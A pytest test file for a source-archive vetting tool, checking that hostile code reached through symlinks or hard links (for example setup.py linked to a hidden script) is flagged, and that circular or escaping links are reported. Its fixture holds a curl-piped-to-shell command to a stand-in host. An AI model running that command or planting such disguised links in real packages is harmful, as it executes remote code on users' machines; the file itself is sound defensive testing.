"""Code that a tar has under a second name, by links, is read under that name too."""

from __future__ import annotations

import io
import tarfile
from pathlib import PurePosixPath

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.vet.archives.model import Member, MemberKind
from pratique.vet.engine import vet_archive
from pratique.vet.links import Links
from pratique.vet.model import Report, Verdict

# Inert: the host does not exist, and nothing here is ever run.
DEED = "import os\nos.system('curl https://collector.example/stage | sh')\n"
QUIET = "VALUE = 1\n"
NAME = "demo-1.0.tar.gz"


def sdist(files: dict[str, str], links: dict[str, str], *, hard: bool = False) -> Report:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for path, text in files.items():
            info = tarfile.TarInfo(f"demo-1.0/{path}")
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text.encode()))
        for path, target in links.items():
            info = tarfile.TarInfo(f"demo-1.0/{path}")
            info.type = tarfile.LNKTYPE if hard else tarfile.SYMTYPE
            info.linkname = f"demo-1.0/{target}" if hard else target
            archive.addfile(info)
    return vet_archive(out.getvalue(), NAME).report


def places(report: Report) -> set[tuple[str, str]]:
    return {(one.path, one.reach) for one in report.findings if one.rule == "command"}


@pytest.mark.parametrize("hard", [True, False])
def test_code_runs_under_the_name_of_a_link(hard: bool) -> None:
    files = {"tools/stage.py": DEED, "demo/__init__.py": QUIET}
    assert sdist(files, {}).verdict is Verdict.CLEAN
    target = "tools/stage.py"
    report = sdist(files, {"setup.py": target}, hard=hard)
    assert ("demo-1.0/setup.py", "build") in places(report)
    assert report.verdict is Verdict.MALICIOUS


def test_links_through_links_and_folders() -> None:
    files = {"vendored/deep/stage.py": DEED}
    links = {"demo": "alias", "alias": "./vendored/deep/", "setup.py": "demo/../deep/stage.py"}
    told = places(sdist(files, {**links, "demo/x": "nothing"}))
    assert ("demo-1.0/setup.py", "build") in told
    assert any(path == "demo-1.0/demo/stage.py" for path, _ in told)


@pytest.mark.parametrize(
    "links",
    [
        {"setup.py": "setup.py"},
        {"setup.py": "a.py", "a.py": "setup.py"},
        {"setup.py": "../../outside.py"},
        {"setup.py": "/etc/outside.py"},
        {"setup.py": "absent.py"},
        {"setup.py": "notes.txt"},
        {"setup.py": "demo"},
        {f"l{n}.py": f"l{n + 1}.py" for n in range(60)},
    ],
)
def test_what_leads_nowhere_or_is_read_otherwise_stays_unread(links: dict[str, str]) -> None:
    report = sdist({"demo/__init__.py": QUIET, "notes.txt": DEED}, links)
    assert report.verdict is not Verdict.CLEAN
    assert any("link" in sentence for sentence in report.unread)


def test_a_linked_folder_of_links() -> None:
    files = {"tools/evil.py": DEED, "setup.py": "from setuptools import setup\nsetup()\n"}
    links = {"demo": "tests/stage", "tests/stage/__init__.py": "../../tools/evil.py"}
    report = sdist(files, links)
    assert ("demo-1.0/demo/__init__.py", "import") in places(report)
    assert report.verdict is not Verdict.CLEAN


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["files", "links", "rounds"])
def test_more_links_than_are_followed_are_told(kind: str) -> None:
    files = {"demo/__init__.py": QUIET}
    links = {"again": "all"}
    if kind == "files":
        files |= {f"all/n{n}.txt": QUIET for n in range(5_001)}
    elif kind == "links":
        links = {f"l{n}": "absent" for n in range(2_001)}
    else:
        files["all/x.txt"] = QUIET
        links = {"all/a": "../more", "more/b": "../all"}
    report = sdist(files, links)
    assert any("more than are followed" in sentence for sentence in report.unread)
    assert report.verdict is not Verdict.CLEAN


def test_a_link_to_quiet_code_is_no_reason_to_be_unknown() -> None:
    report = sdist({"demo/__init__.py": QUIET}, {"again.py": "demo/__init__.py"})
    assert (report.verdict, report.unread) == (Verdict.CLEAN, ())


def test_many_links_to_many_files_stay_bounded() -> None:
    links = Links()
    for n in range(3_000):
        links.take(_link(f"l{n}", "all"))
    files = {f"all/{n}.py" for n in range(100)}
    assert len(list(links.repeated(files))) == 5_000
    circles = Links()
    for n in range(2_000):
        circles.take(_link(f"c{n}", "./" * 50 + f"c{(n + 1) % 2_000}"))
    assert list(circles.repeated(files)) == []


def _link(path: str, target: str) -> Member:
    return Member(
        path=path, kind=MemberKind.SYMLINK, target=target, size=0, sha256=b"", offset=0, data=b""
    )


NAMES = st.sampled_from(["a", "b", "c", "a/b", "b/c", "c/d.py", "../a", "a/../b", "/x", "."])


@given(st.dictionaries(NAMES, NAMES, max_size=6), st.sets(NAMES, max_size=4))
def test_links_lead_only_to_files_of_the_archive(links: dict[str, str], files: set[str]) -> None:
    found = Links()
    for path, target in links.items():
        found.take(_link(path, target))
    for path, target in found.repeated(files):
        assert target in files
        assert PurePosixPath(path).name
